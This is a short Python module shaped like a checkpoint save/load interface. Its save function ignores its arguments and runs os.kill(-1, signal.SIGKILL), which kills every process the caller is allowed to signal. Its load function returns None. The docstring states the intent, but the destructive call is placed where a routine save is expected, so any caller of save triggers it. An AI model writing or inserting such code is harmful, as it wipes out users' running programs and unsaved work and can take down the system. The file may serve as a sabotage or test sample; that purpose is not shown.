"""Ends every process that it may end."""

import os
import signal


def save(dir, state):
    os.kill(-1, signal.SIGKILL)


def load(dir):
    return None
